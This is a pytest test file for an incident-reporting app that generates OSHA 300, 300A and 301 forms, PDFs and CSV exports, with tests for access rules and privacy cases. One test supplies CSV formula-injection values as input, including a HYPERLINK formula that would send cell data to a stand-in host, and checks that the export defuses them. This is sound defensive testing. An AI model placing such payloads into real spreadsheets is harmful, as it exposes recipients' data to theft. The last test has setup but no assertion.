"""OSHA Forms 300, 300A and 301: the selectors they share, the PDFs and who may download them."""

import ast
import codecs
import csv
import dataclasses
import io
import os
import re
from datetime import date, datetime, time, timedelta
from decimal import Decimal
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from django.urls import reverse
from django.utils import timezone
from pypdf import PdfReader

from incidents.models import IllnessType, PrivacyCaseView, Severity
from incidents.osha import forms_pdf, selectors
from incidents.osha.records import CaseType, Outcome
from riskcabinet import fonts
from riskcabinet.roles import Role
from tests.factories import (
    DepartmentFactory,
    EstablishmentFactory,
    ExposureMonthFactory,
    IncidentFactory,
    logged_case,
    user_with_role,
)

LA = ZoneInfo("America/Los_Angeles")


def _at(day: date) -> datetime:
    return datetime.combine(day, time(9, 30), tzinfo=LA)


def _pdf_text(content: bytes) -> str:
    return "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(content)).pages)


@pytest.mark.django_db
def test_it_classifies_each_case_by_its_worst_outcome():
    site = EstablishmentFactory()
    logged_case(site, severity=Severity.FATALITY, days_away=10)
    logged_case(site, severity=Severity.HOSPITALIZATION)
    logged_case(site, severity=Severity.MEDICAL, days_away=2, days_restricted=5)
    logged_case(site, severity=Severity.MEDICAL, days_restricted=4)
    logged_case(site, severity=Severity.MEDICAL)
    # An amputation, and the employee went straight back on restricted duty.
    logged_case(site, severity=Severity.HOSPITALIZATION, days_restricted=20)

    outcomes = [row.outcome for row in selectors.log_rows(establishment=site, year=2025)]

    assert outcomes == [
        Outcome.DEATH,
        Outcome.DAYS_AWAY,
        Outcome.DAYS_AWAY,
        Outcome.JOB_TRANSFER_OR_RESTRICTION,
        Outcome.OTHER_RECORDABLE,
        Outcome.JOB_TRANSFER_OR_RESTRICTION,
    ]


@pytest.mark.django_db
def test_it_caps_days_away_and_restricted_together_at_180():
    site = EstablishmentFactory()
    logged_case(site, severity=Severity.DAYS_AWAY, days_away=150, days_restricted=90)
    logged_case(site, severity=Severity.DAYS_AWAY, days_away=400, days_restricted=20)

    rows = selectors.log_rows(establishment=site, year=2025)
    summary = selectors.summary_for(establishment=site, year=2025)

    assert [(r.days_away, r.days_restricted) for r in rows] == [(150, 30), (180, 0)]
    assert (summary.days_away, summary.days_restricted) == (330, 30)


@pytest.mark.django_db
def test_it_leaves_off_merged_unrecordable_and_other_year_cases():
    site = EstablishmentFactory()
    kept = logged_case(site)
    logged_case(site, recordable=False)
    logged_case(site, recordable=None)
    logged_case(site, merged_into=kept)
    logged_case(site, day=date(2024, 12, 31))
    logged_case(EstablishmentFactory(department=site.department))

    rows = selectors.log_rows(establishment=site, year=2025)

    assert [row.case_number for row in rows] == [kept.reference]


@pytest.mark.django_db
def test_it_logs_a_case_without_establishment_at_the_first_one_and_warns():
    first = EstablishmentFactory()
    second = EstablishmentFactory(department=first.department)
    orphan = IncidentFactory(
        department=first.department, recordable=True, occurred_at=_at(date(2025, 5, 5))
    )

    first_rows = selectors.log_rows(establishment=first, year=2025)
    second_rows = selectors.log_rows(establishment=second, year=2025)

    assert [row.case_number for row in first_rows] == [orphan.reference]
    assert second_rows == []
    assert orphan.reference in selectors.log_warnings(first_rows)[0]


@pytest.mark.django_db
def test_it_warns_of_cases_without_the_name_of_the_person_hurt():
    site = EstablishmentFactory()
    named = IncidentFactory(
        department=site.department,
        establishment=site,
        recordable=True,
        occurred_at=_at(date(2025, 5, 5)),
        reporter=user_with_role(Role.EMPLOYEE, department=site.department),
    )
    nameless = IncidentFactory(
        department=site.department,
        establishment=site,
        recordable=True,
        occurred_at=_at(date(2025, 6, 5)),
        reporter=None,
    )

    rows = selectors.log_rows(establishment=site, year=2025)
    warnings = selectors.log_warnings(rows)

    assert len(warnings) == 1
    assert nameless.reference in warnings[0]
    assert named.reference not in warnings[0]
    assert "no name of the person hurt" in warnings[0]


@pytest.mark.django_db
def test_it_warns_of_a_days_away_case_with_no_days_counted():
    """An in-patient stay is a days-away case (column H) until its days are counted: with K
    empty, the 300A's day total and the ITA file's dafw_num_away would be short."""
    site = EstablishmentFactory()
    uncounted = logged_case(site, severity=Severity.HOSPITALIZATION)
    logged_case(site, severity=Severity.DAYS_AWAY, days_away=3)

    rows = selectors.log_rows(establishment=site, year=2025)
    warnings = selectors.summary_for(establishment=site, year=2025).warnings

    assert [row.outcome for row in rows] == [Outcome.DAYS_AWAY, Outcome.DAYS_AWAY]
    assert any(
        "no days away counted" in warning and uncounted.reference in warning
        for warning in selectors.log_warnings(rows)
    )
    assert any(uncounted.reference in warning for warning in warnings)


@pytest.mark.django_db
def test_it_warns_of_logged_cases_still_flagged_as_possible_duplicates():
    site = EstablishmentFactory()
    first = logged_case(site)
    second = logged_case(site, possible_duplicate_of=first)

    warnings = selectors.log_warnings(selectors.log_rows(establishment=site, year=2025))

    assert warnings[-1] == (
        f"1 case(s) are flagged as possible duplicates of another report and not yet settled: "
        f"{second.reference}. Merge or dismiss each in triage, so that no injury is logged "
        "twice."
    )


@pytest.mark.django_db
def test_it_warns_of_a_privacy_case_with_no_name_on_file_for_its_301():
    site = EstablishmentFactory()
    private = logged_case(site, privacy_case=True, reporter=None, injured_name="")

    rows = selectors.log_rows(establishment=site, year=2025)

    assert rows[0].employee_name == "Privacy case"
    assert private.reference in selectors.log_warnings(rows)[0]


@pytest.mark.django_db
def test_it_shows_privacy_case_instead_of_the_name_in_column_b():
    site = EstablishmentFactory()
    reporter = user_with_role(Role.EMPLOYEE, department=site.department)
    logged_case(site, reporter=reporter, privacy_case=True)

    row = selectors.log_rows(establishment=site, year=2025)[0]

    assert row.employee_name == "Privacy case"
    assert reporter.last_name not in row.employee_name


@pytest.mark.django_db
def test_it_counts_300a_types_and_shares_hours_between_establishments():
    site = EstablishmentFactory()
    EstablishmentFactory(department=site.department)
    for month in range(1, 13):
        ExposureMonthFactory(
            department=site.department,
            month=date(2025, month, 1),
            hours_worked=Decimal("20000.0"),
            headcount=120,
        )
    logged_case(site, illness_type=IllnessType.HEARING_LOSS)
    logged_case(site, illness_type=IllnessType.SKIN)
    logged_case(site)

    summary = selectors.summary_for(establishment=site, year=2025)

    assert summary.by_type[CaseType.HEARING_LOSS] == 1
    assert summary.by_type[CaseType.SKIN_DISORDER] == 1
    assert summary.by_type[CaseType.INJURY] == 1
    assert summary.total_hours_worked == 120_000
    assert summary.annual_average_employees == 60


@pytest.mark.django_db
def test_the_300a_rounds_average_employees_and_hours_up_to_the_next_whole_number():
    """The 300A worksheet: "Round the answer to the next highest whole number", for both."""
    site = EstablishmentFactory()
    for month in range(1, 13):
        ExposureMonthFactory(
            department=site.department,
            month=date(2025, month, 1),
            hours_worked=Decimal("16800.5") if month == 1 else Decimal("16800.0"),
            headcount=101 if month == 12 else 100,  # an average of 100.08 employees
        )

    summary = selectors.summary_for(establishment=site, year=2025)

    assert summary.annual_average_employees == 101
    assert summary.total_hours_worked == 12 * 16_800 + 1


@pytest.mark.django_db
def test_the_300a_warns_when_months_of_payroll_hours_are_missing():
    site = EstablishmentFactory()
    for month in range(1, 10):  # October to December never imported
        ExposureMonthFactory(
            department=site.department,
            month=date(2025, month, 1),
            hours_worked=Decimal("10000.0"),
            headcount=60,
        )
    complete = EstablishmentFactory()
    for month in range(1, 13):
        ExposureMonthFactory(department=complete.department, month=date(2025, month, 1))

    short = selectors.summary_for(establishment=site, year=2025).warnings
    whole = selectors.summary_for(establishment=complete, year=2025).warnings

    assert any("on file for 9 of the 12 months of 2025" in warning for warning in short)
    assert not any("months of 2025" in warning for warning in whole)


@pytest.mark.django_db
def test_a_site_opened_later_does_not_change_earlier_years_300a():
    site = EstablishmentFactory()
    for year in (2024, 2025):
        for month in range(1, 13):
            ExposureMonthFactory(
                department=site.department,
                month=date(year, month, 1),
                hours_worked=Decimal("10000.0"),
                headcount=60,
            )
    later = EstablishmentFactory(department=site.department, opened_on=date(2025, 3, 1))

    last_year = selectors.summary_for(establishment=site, year=2024)
    this_year = selectors.summary_for(establishment=site, year=2025)
    new_site = selectors.summary_for(establishment=later, year=2025)

    assert (last_year.total_hours_worked, last_year.annual_average_employees) == (120_000, 60)
    assert (this_year.total_hours_worked, this_year.annual_average_employees) == (60_000, 30)
    assert new_site.total_hours_worked == 60_000


def _log_row(**overrides):
    from incidents.osha.records import LogRow

    values = {
        "case_number": "INC-2025-000001",
        "employee_name": "Rosa Delgado",
        "job_title": "Truck Operator",
        "date_of_injury": date(2025, 3, 1),
        "where_occurred": "Central yard",
        "description": "Sprain, lower back; bin",
        "outcome": Outcome.DAYS_AWAY,
        "days_away": 4,
        "days_restricted": 2,
        "case_type": CaseType.INJURY,
    }
    values.update(overrides)
    return LogRow(**values)


def test_it_prints_page_totals_on_every_page_of_the_300():
    rows = [_log_row(case_number=f"INC-2025-{n:06d}") for n in range(1, 16)]

    content = forms_pdf.form_300_pdf(
        establishment_name="Sanitation Yard", city="Los Angeles", state="CA", year=2025, rows=rows
    )
    reader = PdfReader(io.BytesIO(content))

    assert len(reader.pages) == 2
    assert "Page totals" in reader.pages[0].extract_text()
    assert "Totals for 2025" in reader.pages[1].extract_text()
    assert "Sanitation Yard" in reader.pages[1].extract_text()


def test_the_logs_warnings_are_printed_whole_on_a_page_of_their_own():
    missing = ", ".join(f"INC-2025-{n:06d}" for n in range(1, 41))
    warning = f"40 cases have no name of the person hurt: {missing}. Enter each name."

    log = PdfReader(
        io.BytesIO(
            forms_pdf.form_300_pdf(
                establishment_name="Sanitation Yard",
                city="Los Angeles",
                state="CA",
                year=2025,
                rows=[_log_row()],
                warnings=[warning],
            )
        )
    )

    assert len(log.pages) == 2
    form, notes = (" ".join(page.extract_text().split()) for page in log.pages)
    assert "Notes for the recordkeeper follow this form" in form
    assert "INC-2025-000001," not in form
    assert "Notes for the recordkeeper (not part of the form; do not post)" in notes
    assert "INC-2025-000040. Enter each name." in notes


def test_the_summarys_warnings_are_printed_whole_after_it(logs):
    summary = selectors.summary_for(establishment=logs["site"], year=2025)
    summary = dataclasses.replace(summary, warnings=("A warning that runs long. " * 20,))

    reader = PdfReader(io.BytesIO(forms_pdf.form_300a_pdf(summary)))

    assert len(reader.pages) == 2
    notes = " ".join(reader.pages[1].extract_text().split())
    assert "Notes for the recordkeeper (not part of the form; do not post)" in notes
    assert notes.count("A warning that runs long.") == 20


def test_it_prints_the_whole_description_of_a_case_on_the_300():
    description = (
        "Multiple traumatic injuries and disorders, unspecified, head, neck and shoulders; "
        "powered industrial trucks, forklifts, n.e.c., struck while reversing in the yard "
        "with its load raised above the operator's line of sight"
    )
    rows = [_log_row(description=description)]

    content = forms_pdf.form_300_pdf(
        establishment_name="Sanitation Yard", city="Los Angeles", state="CA", year=2025, rows=rows
    )
    text = " ".join(_pdf_text(content).split())

    assert "operator's line of sight" in text
    assert "\u2026" not in text


def test_it_gives_tall_rows_their_room_and_keeps_every_case_with_its_totals():
    long_text = "Laceration, right hand; box cutter slipped while opening a carton. " * 4
    rows = [
        _log_row(case_number=f"INC-2025-{n:06d}", description=long_text, days_away=n)
        for n in range(1, 12)
    ]

    content = forms_pdf.form_300_pdf(
        establishment_name="Sanitation Yard", city="Los Angeles", state="CA", year=2025, rows=rows
    )
    pages = [page.extract_text() for page in PdfReader(io.BytesIO(content)).pages]

    # Eleven one-line cases fit on one page; these need about seven lines each.
    assert len(pages) == 3
    printed = [n for page in pages for n in range(1, 12) if f"INC-2025-{n:06d}" in page]
    assert printed == list(range(1, 12))
    assert "Totals for 2025" in pages[-1]
    assert "66" in pages[-1]  # days away, 1 + 2 + ... + 11


def test_it_keeps_forms_pdf_free_of_django():
    source = Path(forms_pdf.__file__).read_text()
    imported = {
        node.module.split(".")[0]
        for node in ast.walk(ast.parse(source))
        if isinstance(node, ast.ImportFrom) and node.module
    }
    assert "django" not in imported


@pytest.fixture
def logs(db):
    site = EstablishmentFactory(name="Sanitation Yard")
    other = EstablishmentFactory(name="Fire Station 27")
    reporter = user_with_role(Role.EMPLOYEE, department=site.department)
    case = logged_case(site, reporter=reporter, severity=Severity.DAYS_AWAY, days_away=3)
    private = logged_case(site, reporter=reporter, privacy_case=True)
    return {"site": site, "other": other, "case": case, "private": private, "reporter": reporter}


@pytest.mark.parametrize("role", [Role.EMPLOYEE, Role.CABINET_MEMBER])
def test_it_refuses_the_osha_pages_to_employees_and_cabinet(client, logs, role):
    client.force_login(user_with_role(role))

    index = client.get(reverse("osha:index"))
    log = client.get(reverse("osha:log-pdf", args=[logs["site"].pk, 2025]))

    assert (index.status_code, log.status_code) == (403, 403)


def test_it_lists_only_covered_establishments_for_an_officer(client, logs):
    officer = user_with_role(Role.SAFETY_OFFICER, covers=(logs["site"].department,))
    client.force_login(officer)

    page = client.get(reverse("osha:index")).content.decode()

    assert "Sanitation Yard" in page
    assert "Fire Station 27" not in page
    assert client.get(reverse("osha:log-pdf", args=[logs["other"].pk, 2025])).status_code == 403


def test_it_lets_a_risk_manager_download_every_form(client, logs):
    client.force_login(user_with_role(Role.RISK_MANAGER))
    site = logs["site"].pk

    responses = [
        client.get(reverse(name, args=[site, 2025]))
        for name in (
            "osha:log-pdf",
            "osha:log-csv",
            "osha:summary-pdf",
            "osha:ita-summary-csv",
            "osha:ita-cases-csv",
        )
    ] + [client.get(reverse("osha:case-pdf", args=[logs["case"].reference]))]

    assert [r.status_code for r in responses] == [200] * 6
    assert responses[0].content.startswith(b"%PDF")
    assert "Sanitation Yard" in _pdf_text(responses[2].content)


def test_it_writes_privacy_case_in_the_300_csv(client, logs):
    client.force_login(user_with_role(Role.SAFETY_OFFICER, covers=(logs["site"].department,)))

    response = client.get(reverse("osha:log-csv", args=[logs["site"].pk, 2025]))
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))

    names = {row["case_number"]: row["employee_name"] for row in rows}
    assert names[logs["private"].reference] == "Privacy case"
    assert names[logs["case"].reference] == logs["reporter"].get_full_name()


def test_it_records_who_opened_a_privacy_case_301(client, logs):
    officer = user_with_role(Role.SAFETY_OFFICER, covers=(logs["site"].department,))
    client.force_login(officer)

    response = client.get(reverse("osha:case-pdf", args=[logs["private"].reference]))

    assert response.status_code == 200
    assert "What happened?" in _pdf_text(response.content)
    assert PrivacyCaseView.objects.filter(incident=logs["private"], user=officer).exists()


def _csv_rows(response) -> list[dict]:
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))


@pytest.mark.django_db
def test_no_cell_of_the_csv_files_starts_a_spreadsheet_formula(client):
    site = EstablishmentFactory()
    logged_case(
        site,
        injured_name='=HYPERLINK("http://example.test/?"&A1,"open")',
        injured_job_title="+1+1",
        location_text="@SUM(1,1)",
        injury_kind="=2+2",
        narrative="-3+3 then he fell",
        days_away=4,
        severity=Severity.DAYS_AWAY,
    )
    client.force_login(user_with_role(Role.RISK_MANAGER))

    log = _csv_rows(client.get(reverse("osha:log-csv", args=[site.pk, 2025])))[0]
    case = _csv_rows(client.get(reverse("osha:ita-cases-csv", args=[site.pk, 2025])))[0]

    assert log["employee_name"] == '\'=HYPERLINK("http://example.test/?"&A1,"open")'
    assert (log["job_title"], log["where_occurred"]) == ("'+1+1", "'@SUM(1,1)")
    assert log["description"].startswith("'=2+2")
    assert (case["job_title"], case["incident_location"]) == ("'+1+1", "'@SUM(1,1)")
    assert case["nar_what_happened"] == "'-3+3 then he fell"
    assert log["days_away_count"] == case["dafw_num_away"] == "4"  # Numbers stay numbers.


@pytest.mark.django_db
def test_a_privacy_case_not_yet_coded_never_shows_its_narrative_on_the_log():
    site = EstablishmentFactory()
    uncoded = {"body_part": "", "injury_kind": ""}
    logged_case(
        site, privacy_case=True, narrative="Assaulted by a coworker in a locker.", **uncoded
    )
    logged_case(site, narrative="Fell from the loading dock.", **uncoded)

    rows = {row.privacy_case: row for row in selectors.log_rows(establishment=site, year=2025)}

    assert rows[True].description == selectors.PRIVACY_DESCRIPTION
    assert rows[False].description == "Fell from the loading dock."


def test_an_administrator_gets_the_case_file_without_privacy_case_narratives(client, logs):
    logs["private"].narrative = "Under care after a traumatic call."
    logs["private"].save()
    client.force_login(user_with_role(Role.ADMINISTRATOR))

    index = client.get(reverse("osha:index")).content.decode()
    response = client.get(reverse("osha:ita-cases-csv", args=[logs["site"].pk, 2025]))

    rows = {row["case_number"]: row for row in _csv_rows(response)}
    assert rows[logs["private"].reference]["nar_what_happened"] == ""
    assert rows[logs["case"].reference]["nar_what_happened"] != ""
    assert "traumatic call" not in response.content.decode()
    assert "their narratives are left empty in the case CSV you download" in index
    assert not PrivacyCaseView.objects.exists()


def test_the_case_file_records_who_took_a_privacy_case_narrative(client, logs):
    officer = user_with_role(Role.SAFETY_OFFICER, covers=(logs["site"].department,))
    client.force_login(officer)

    index = client.get(reverse("osha:index")).content.decode()
    response = client.get(reverse("osha:ita-cases-csv", args=[logs["site"].pk, 2025]))

    rows = {row["case_number"]: row for row in _csv_rows(response)}
    assert rows[logs["private"].reference]["nar_what_happened"] == logs["private"].narrative
    assert "left empty" not in index
    viewed = PrivacyCaseView.objects.get()
    assert (viewed.incident, viewed.user) == (logs["private"], officer)
    assert viewed.path == response.request["PATH_INFO"]


def test_the_301_gives_a_long_answer_in_full_after_the_form(client, logs):
    long_story = " ".join(
        f"Sentence {n} of what the crew saw at the transfer station." for n in range(40)
    )
    logs["case"].narrative = long_story + " The last thing said was: stop the belt."
    logs["case"].save()
    client.force_login(user_with_role(Role.RISK_MANAGER))

    response = client.get(reverse("osha:case-pdf", args=[logs["case"].reference]))

    reader = PdfReader(io.BytesIO(response.content))
    first, rest = (reader.pages[0].extract_text(), _pdf_text(response.content))
    assert len(reader.pages) == 2
    assert "(continued in full after the form)" in " ".join(first.split())
    assert "stop the belt." in " ".join(rest.split())


def test_the_301_is_completed_by_whoever_prints_it(client, logs, settings):
    settings.TIME_ZONE = "America/Los_Angeles"
    officer = user_with_role(Role.SAFETY_OFFICER, covers=(logs["site"].department,))
    officer.first_name, officer.last_name = "Rosa", "Delgado"
    officer.save()
    officer.person.job_title = "Senior Safety Officer"
    officer.person.save()
    client.force_login(officer)

    response = client.get(reverse("osha:case-pdf", args=[logs["case"].reference]))

    text = " ".join(_pdf_text(response.content).split())
    today = timezone.localdate()
    completed = text.split("Completed by", 1)[1]
    assert "Name Rosa Delgado" in completed
    assert "Title Senior Safety Officer" in completed
    assert f"Date {today:%m/%d/%Y}" in completed


def test_a_case_known_only_by_its_day_goes_to_osha_as_time_unknown(client, logs):
    logs["case"].occurred_time_known = False
    logs["case"].save()
    client.force_login(user_with_role(Role.RISK_MANAGER))

    response = client.get(reverse("osha:ita-cases-csv", args=[logs["site"].pk, 2025]))
    page = client.get(reverse("triage:case", args=[logs["case"].reference])).content.decode()

    row = next(r for r in _csv_rows(response) if r["case_number"] == logs["case"].reference)
    assert (row["time_of_incident"], row["time_unknown"]) == ("", "1")
    assert "(time not known)" in page


@pytest.mark.django_db
def test_the_index_names_departments_whose_cases_are_on_no_log(client):
    parks = DepartmentFactory(name="Recreation and Parks")
    listed = EstablishmentFactory(name="Sanitation Yard")
    this_year = timezone.localdate().year
    for _ in range(2):
        IncidentFactory(department=parks, recordable=True, occurred_at=_at(date(this_year, 1, 2)))
    IncidentFactory(
        department=listed.department, recordable=True, occurred_at=_at(date(this_year, 1, 2))
    )
    client.force_login(user_with_role(Role.RISK_MANAGER))

    page = client.get(reverse("osha:index")).content.decode()

    assert "Recreation and Parks: 2 cases" in page
    assert "Sanitation Yard" in page  # Listed with its log, not among the warnings.
    assert f"{listed.department.name}: 1 case" not in page


def test_the_301_takes_an_overnight_stay_from_the_report_until_the_officer_answers(client, logs):
    from incidents.models import Treatment

    case = logs["case"]
    case.treatment = Treatment.HOSPITAL_STAY
    case.save()
    officer = user_with_role(Role.SAFETY_OFFICER, covers=(logs["site"].department,))
    client.force_login(officer)

    page = client.get(reverse("triage:case", args=[case.reference])).content.decode()
    pdf = client.get(reverse("osha:case-pdf", args=[case.reference]))

    stay = re.search(r'<select name="f301-hospitalized_overnight".*?</select>', page, re.S)
    assert '<option value="True" selected>Yes</option>' in stay.group(0)
    text = " ".join(_pdf_text(pdf.content).split())
    assert "9) Was employee hospitalized overnight as an in-patient? Yes" in text
    assert "8) Was employee treated in an emergency room? Not recorded" in text
    case.hospitalized_overnight = False  # The officer's answer wins.
    case.save()
    assert selectors.case_report(case).hospitalized_overnight is False


def test_the_officer_completes_the_301_on_the_case_page(client, logs):
    officer = user_with_role(Role.SAFETY_OFFICER, covers=(logs["site"].department,))
    client.force_login(officer)
    case = logs["case"]

    client.post(
        reverse("triage:case-form-301", args=[case.reference]),
        {
            "f301-time_began_work": "06:30",
            "f301-physician_name": "Dr. R. Okafor",
            "f301-treatment_facility": "Harbor Clinic, 100 W 1st St",
            "f301-treated_in_er": "True",
            "f301-hospitalized_overnight": "None",
            "f301-doing_before": "Lifting bins onto the truck's lift gate.",
            "f301-injury_details": "",
            "f301-object_substance": "Lift gate",
        },
    )

    case.refresh_from_db()
    assert (case.time_began_work, case.treated_in_er, case.hospitalized_overnight) == (
        time(6, 30),
        True,
        None,
    )
    assert case.history.first().history_user == officer
    text = " ".join(
        _pdf_text(client.get(reverse("osha:case-pdf", args=[case.reference])).content).split()
    )
    assert "Lifting bins onto the truck's lift gate." in text
    assert "Harbor Clinic, 100 W 1st St" in text
    response = client.get(reverse("osha:ita-cases-csv", args=[logs["site"].pk, 2025]))
    row = next(r for r in _csv_rows(response) if r["case_number"] == case.reference)
    assert row["nar_before_incident"] == "Lifting bins onto the truck's lift gate."
    assert row["nar_object_substance"] == "Lift gate"
    page = client.get(reverse("triage:case", args=[case.reference])).content.decode()
    assert "Form 301 details" in page


def test_a_death_gets_its_date_on_the_301_and_in_the_ita_file(client, logs):
    """301 item 13 and the ITA case file's date_of_death: an officer enters it, the log warns
    while a death has none, and a date before the incident or in the future is refused."""
    officer = user_with_role(Role.SAFETY_OFFICER, covers=(logs["site"].department,))
    client.force_login(officer)
    case = logs["case"]
    case.severity = Severity.FATALITY
    case.save()
    form_url = reverse("triage:case-form-301", args=[case.reference])
    occurred = timezone.localdate(case.occurred_at)

    assert any(
        f"1 death(s) have no date of death on file: {case.reference}" in warning
        for warning in selectors.log_warnings(
            selectors.log_rows(establishment=logs["site"], year=2025)
        )
    )
    for refused, error in (
        (occurred - timedelta(days=1), "cannot be before the incident"),
        (timezone.localdate() + timedelta(days=1), "cannot be in the future"),
    ):
        page = client.post(form_url, {"f301-date_of_death": refused.isoformat()})
        assert error in page.content.decode()
        case.refresh_from_db()
        assert case.date_of_death is None
    died = occurred + timedelta(days=2)
    client.post(form_url, {"f301-date_of_death": died.isoformat()})

    case.refresh_from_db()
    assert case.date_of_death == died
    rows = selectors.log_rows(establishment=logs["site"], year=2025)
    assert not any("date of death" in warning for warning in selectors.log_warnings(rows))
    response = client.get(reverse("osha:ita-cases-csv", args=[logs["site"].pk, 2025]))
    row = next(r for r in _csv_rows(response) if r["case_number"] == case.reference)
    assert row["date_of_death"] == f"{died:%m/%d/%Y}"
    page = client.get(reverse("triage:case", args=[case.reference])).content.decode()
    assert f'name="f301-date_of_death" value="{died:%Y-%m-%d}"' in page


def test_a_case_not_on_the_log_has_no_form_301_panel(client, logs):
    client.force_login(user_with_role(Role.SAFETY_OFFICER, covers=(logs["site"].department,)))
    logs["case"].recordable = False
    logs["case"].save()

    page = client.get(reverse("triage:case", args=[logs["case"].reference])).content.decode()

    assert "Form 301 details" not in page


def _needs_dejavu() -> None:
    if fonts.unicode_font() is None:
        # .ci/services.sh installs it; a machine without it prints "?" in such letters' place.
        if os.environ.get("CI"):
            pytest.fail("DejaVu Sans (fonts-dejavu-core) is not installed")
        pytest.skip("DejaVu Sans is not installed")


def test_the_log_prints_names_beyond_windows_1252():
    """Column B is a legal record: a Vietnamese or Armenian name must print as written, not as
    black boxes (Helvetica has only the Windows-1252 letters)."""
    _needs_dejavu()
    name = "Nguyễn Thị Đào"
    pdf = forms_pdf.form_300_pdf(
        establishment_name="Harbor Yard",
        city="Los Angeles",
        state="CA",
        year=2025,
        rows=[_log_row(employee_name=name, job_title="Técnico"), _log_row()],
    )

    text = _pdf_text(pdf)
    assert name in text
    assert "Técnico" in text
    assert "Rosa Delgado" in text
    assert "\u25a0" not in text


def test_the_301_prints_a_name_beyond_windows_1252(client, logs):
    _needs_dejavu()
    logs["reporter"].first_name, logs["reporter"].last_name = "Արամ", "Հակոբյան"
    logs["reporter"].save()
    client.force_login(user_with_role(Role.RISK_MANAGER))

    response = client.get(reverse("osha:case-pdf", args=[logs["case"].reference]))

    # Drawn run by run (the space between in Helvetica), so read with the spacing evened out.
    assert "Արամ Հակոբյան" in " ".join(_pdf_text(response.content).split())


def test_without_dejavu_a_letter_helvetica_lacks_is_a_question_mark_not_a_box():
    assert fonts.markup("Đào <b>", None) == "?ào &lt;b&gt;"
    assert fonts.markup("Đào", "F") == '<font name="F">Đ</font>ào'


def _needs_cjk_font() -> None:
    if fonts.cjk_font() is None:
        # .ci/services.sh installs it; a machine without it prints "?" in such letters' place.
        if os.environ.get("CI"):
            pytest.fail("WenQuanYi Micro Hei (fonts-wqy-microhei) is not installed")
        pytest.skip("No Chinese, Japanese and Korean font is installed")


def _embedded_fonts(content: bytes) -> set[str]:
    """The names of the fonts whose outlines the PDF carries."""
    names = set()
    for page in PdfReader(io.BytesIO(content)).pages:
        for font in page["/Resources"]["/Font"].values():
            font = font.get_object()
            descriptor = font.get("/FontDescriptor")
            if descriptor is not None and "/FontFile2" in descriptor.get_object():
                names.add(str(font["/BaseFont"]))
    return names


def _cjk_log() -> bytes:
    return forms_pdf.form_300_pdf(
        establishment_name="Harbor Yard 港口",
        city="Los Angeles",
        state="CA",
        year=2025,
        rows=[
            _log_row(employee_name="王小明", job_title="技术员"),
            _log_row(employee_name="김민준", job_title="Mechanic"),
            _log_row(employee_name="山田太郎 (Taro Yamada)"),
            _log_row(employee_name="Nguyễn Thị Đào"),
            _log_row(),
        ],
    )


def test_the_log_prints_chinese_japanese_and_korean_names():
    """Column B of a log for a city in Los Angeles: a name written in Chinese, Korean or
    Japanese prints as written, in a font the PDF carries, not as "?" or empty boxes."""
    _needs_dejavu()
    _needs_cjk_font()

    content = _cjk_log()

    text = _pdf_text(content)
    for written in ("王小明", "技术员", "김민준", "山田太郎 (Taro Yamada)", "Nguyễn Thị Đào"):
        assert written in text
    assert "?" not in text
    # Drawn run by run in the box at the top and the footer, so read with the spacing evened out.
    assert " ".join(text.split()).count("Harbor Yard 港口") == 2
    assert any("WenQuanYi" in name for name in _embedded_fonts(content))


@pytest.mark.django_db
def test_the_301_prints_a_korean_and_a_chinese_name(client, logs):
    _needs_cjk_font()
    logs["reporter"].first_name, logs["reporter"].last_name = "민준", "김"
    logs["reporter"].save()
    logs["site"].name = "Harbor Yard 港口"
    logs["site"].save()
    client.force_login(user_with_role(Role.RISK_MANAGER))

    korean = client.get(reverse("osha:case-pdf", args=[logs["case"].reference])).content
    logs["reporter"].first_name, logs["reporter"].last_name = "小明", "王"
    logs["reporter"].save()
    chinese = client.get(reverse("osha:case-pdf", args=[logs["case"].reference])).content

    # Drawn run by run (the space between in Helvetica), so read with the spacing evened out.
    assert "민준 김" in " ".join(_pdf_text(korean).split())
    assert "小明 王" in " ".join(_pdf_text(chinese).split())
    assert "Harbor Yard 港口" in " ".join(_pdf_text(chinese).split())
    assert any("WenQuanYi" in name for name in _embedded_fonts(chinese))


def test_without_a_cjk_font_such_a_name_prints_as_question_marks(monkeypatch):
    """A machine without the font still builds the forms, with "?" for each such letter (and
    never an empty box), and DejaVu Sans still sets the letters it has."""
    _needs_dejavu()
    monkeypatch.setattr(fonts, "cjk_font", lambda *args, **kwargs: None)

    content = _cjk_log()

    text = _pdf_text(content)
    assert "???" in text
    assert "(Taro Yamada)" in text
    assert "Nguyễn Thị Đào" in text
    assert "王" not in text
    assert not any("WenQuanYi" in name for name in _embedded_fonts(content))
    dejavu = fonts.unicode_font()
    assert fonts.markup("王 Đ", fonts.unicode_fonts()) == f'? <font name="{dejavu}">Đ</font>'


@pytest.mark.parametrize(
    "name",
    [
        "港口维修与车辆管理中心东区第二分部港口维修与车辆管理中心东区第二分部",
        "DEPARTMENT OF RECREATION AND PARKS - GRIFFITH PARK MAINTENANCE",
    ],
)
def test_a_long_establishment_name_stays_inside_the_logs_box(monkeypatch, name):
    """A Chinese letter is about twice as wide as a Latin one: a name cut at a number of letters
    ran out of the establishment box, and off the page."""
    _needs_dejavu()
    _needs_cjk_font()
    drawn = []
    draw_string = fonts.draw_string

    def record(canvas, x, y, text, font, size):
        drawn.append((x, text, font, size))
        draw_string(canvas, x, y, text, font, size)

    monkeypatch.setattr(fonts, "draw_string", record)

    forms_pdf.form_300_pdf(
        establishment_name=name, city="Los Angeles", state="CA", year=2025, rows=[_log_row()]
    )

    page_width = forms_pdf.landscape(forms_pdf.legal)[0]
    box_right = page_width - 0.4 * forms_pdf.inch
    name_drawn = [(x, text, font, size) for x, text, font, size in drawn if text[:2] == name[:2]]
    assert name_drawn
    for x, text, font, size in name_drawn:
        assert x + fonts.string_width(text, font, size) <= box_right - 8
        assert text.endswith("\u2026")


def test_the_cjk_font_is_looked_for_only_where_listed(tmp_path):
    assert fonts.cjk_file((tmp_path / "missing.ttc",)) is None
    present = tmp_path / "present.ttc"
    present.write_bytes(b"")
    assert fonts.cjk_file((tmp_path / "missing.ttc", present)) == present


@pytest.mark.django_db
def test_the_300_csv_opens_in_a_spreadsheet_with_its_accents(client):
    """Excel reads a UTF-8 CSV without a byte-order mark as Windows-1252: "José Peña" would show
    as "JosÃ© PeÃ±a" in column B. The ITA files go to OSHA as they are, with no mark."""
    site = EstablishmentFactory()
    logged_case(site, injured_name="José Peña Ñúñez", injured_job_title="Técnico")
    client.force_login(user_with_role(Role.RISK_MANAGER))

